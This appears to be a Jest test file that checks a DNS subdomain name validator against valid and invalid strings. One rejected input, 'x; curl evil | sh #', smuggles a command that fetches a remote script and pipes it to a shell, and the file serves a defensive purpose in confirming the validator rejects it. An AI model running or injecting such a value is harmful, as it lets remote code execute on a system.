import { expect, test } from "@jest/globals";
import { isDnsSubdomain } from "./dns-name.ts";

test.each(["web", "web-1", "a.b-c.d", "0", "a".repeat(253)])("%p is a name", (text) => {
  expect(isDnsSubdomain(text)).toBe(true);
});

test.each([
  "",
  "Web",
  "-web",
  "web-",
  "web.",
  ".web",
  "a..b",
  "web_1",
  "x; curl evil | sh #",
  "web\n",
  "web --all",
  "a".repeat(254),
])("%p is none", (text) => {
  expect(isDnsSubdomain(text)).toBe(false);
});
